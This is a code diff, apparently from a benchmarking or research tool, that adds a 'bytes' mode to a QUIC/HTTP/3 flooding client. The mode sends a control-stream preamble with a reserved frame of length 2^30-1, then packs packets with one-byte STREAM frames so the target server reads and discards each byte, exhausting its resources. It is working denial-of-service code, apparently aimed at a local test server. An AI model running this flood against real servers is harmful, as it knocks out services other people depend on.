@@ -13,6 +13,13 @@
 //! `bench/results/*-empty-stream-frames/run.sh` reads the server's CPU time and RSS
 //! around the run.
 //!
+//! With `--mode bytes` each frame brings one new byte instead, on the client's HTTP/3
+//! control stream (stream 2): it opens with SETTINGS and then a frame of a reserved type
+//! whose length (2^30 - 1) covers everything sent after it, so the server reads every
+//! byte and skips it, one chunk per frame: `0e 02 <4-byte offset> 01 00`, 8 bytes each.
+//! The stream's flow control moves with the server's reads: the rate must leave the
+//! server time to read (`--rate`), or it closes the connection.
+//!
 //!   quic-empty-frames --target 127.0.0.1:4433 --dev-dir DIR --secs 3
 
 use std::net::{SocketAddr, UdpSocket};
@@ -60,7 +67,27 @@ struct Args {
     /// Packets per second on each connection (0: as fast as the socket takes them).
     #[arg(long, default_value_t = 0)]
     rate: u64,
+    /// `empty`: empty frames on stream 0; `bytes`: one new byte per frame on the
+    /// control stream.
+    #[arg(long, default_value = "empty")]
+    mode: Mode,
 }
+
+#[derive(clap::ValueEnum, Clone, Copy, Debug, PartialEq, Eq)]
+enum Mode {
+    Empty,
+    Bytes,
+}
+
+/// The control stream's first bytes: its type (0x00), an empty SETTINGS frame, then
+/// the header of a reserved frame (type 0x21) of length 2^30 - 1.
+const CONTROL_PREAMBLE: [u8; 8] = [0x00, 0x04, 0x00, 0x21, 0xbf, 0xff, 0xff, 0xff];
+/// A STREAM frame with offset and length (type 0x0e) on stream 2, before its 4-byte
+/// offset.
+const BYTE_FRAME_HEAD: [u8; 2] = [0x0e, 0x02];
+/// Its length (1) and its byte.
+const BYTE_FRAME_TAIL: [u8; 2] = [0x01, 0x00];
+const BYTE_FRAME: usize = BYTE_FRAME_HEAD.len() + 4 + BYTE_FRAME_TAIL.len();
 
 fn main() -> Result<()> {
     let args = Args::parse();
@@ -86,13 +113,25 @@ fn attack(args: &Args, cert_hash: &[u8]) -> Result<(u64, u64)> {
     let socket = UdpSocket::bind("127.0.0.1:0")?;
     socket.connect(args.target)?;
     let mut client = Client::connect(&socket, args.target, cert_hash, secrets.clone())?;
-    let stream = client
-        .conn
-        .streams()
-        .open(Dir::Bi)
-        .ok_or(anyhow!("no stream credit"))?;
-    // The first byte of a two-byte varint: the server waits for the frame type's rest.
-    client.conn.send_stream(stream).write(&[0x40])?;
+    if args.mode == Mode::Empty {
+        let stream = client
+            .conn
+            .streams()
+            .open(Dir::Bi)
+            .ok_or(anyhow!("no stream credit"))?;
+        // The first byte of a two-byte varint: the server waits for the frame type's rest.
+        client.conn.send_stream(stream).write(&[0x40])?;
+    } else {
+        let stream = client
+            .conn
+            .streams()
+            .open(Dir::Uni)
+            .ok_or(anyhow!("no uni stream credit"))?;
+        if u64::from(stream) != 2 {
+            bail!("the control stream is {stream}, not 2");
+        }
+        client.conn.send_stream(stream).write(&CONTROL_PREAMBLE)?;
+    }
     client.run(&socket, Duration::from_millis(200), |_| false)?;
     let dcid = client
         .server_cid
@@ -101,12 +140,21 @@ fn attack(args: &Args, cert_hash: &[u8]) -> Result<(u64, u64)> {
         .client_traffic()
         .ok_or(anyhow!("no CLIENT_TRAFFIC_SECRET_0 in the key log"))?;
     let keys = PacketKeys::new(&secret)?;
+    let frame_len = match args.mode {
+        Mode::Empty => EMPTY_FRAME.len(),
+        Mode::Bytes => BYTE_FRAME,
+    };
     let per_packet = if args.frames > 0 {
         args.frames
     } else {
-        (DATAGRAM - 1 - SERVER_CID_LEN - 4 - TAG) / EMPTY_FRAME.len()
+        (DATAGRAM - 1 - SERVER_CID_LEN - 4 - TAG) / frame_len
     };
-    let payload: Vec<u8> = EMPTY_FRAME.repeat(per_packet);
+    let mut payload: Vec<u8> = match args.mode {
+        Mode::Empty => EMPTY_FRAME.repeat(per_packet),
+        Mode::Bytes => Vec::with_capacity(per_packet * BYTE_FRAME),
+    };
+    // The next offset on the control stream: its preamble went first.
+    let mut offset = CONTROL_PREAMBLE.len() as u32;
     let started = Instant::now();
     let until = started + Duration::from_secs_f64(args.secs);
     let gap = (args.rate > 0).then(|| Duration::from_secs_f64(1.0 / args.rate as f64));
@@ -114,6 +162,15 @@ fn attack(args: &Args, cert_hash: &[u8]) -> Result<(u64, u64)> {
     let mut sent = 0u64;
     let mut packet = Vec::with_capacity(DATAGRAM);
     while Instant::now() < until {
+        if args.mode == Mode::Bytes {
+            payload.clear();
+            for _ in 0..per_packet {
+                payload.extend_from_slice(&BYTE_FRAME_HEAD);
+                payload.extend_from_slice(&(0x8000_0000 | offset).to_be_bytes());
+                payload.extend_from_slice(&BYTE_FRAME_TAIL);
+                offset += 1;
+            }
+        }
         keys.seal(&mut packet, &dcid, pn, &payload)?;
         // A full socket buffer drops the datagram, as the network would.
         let _ = socket.send(&packet);
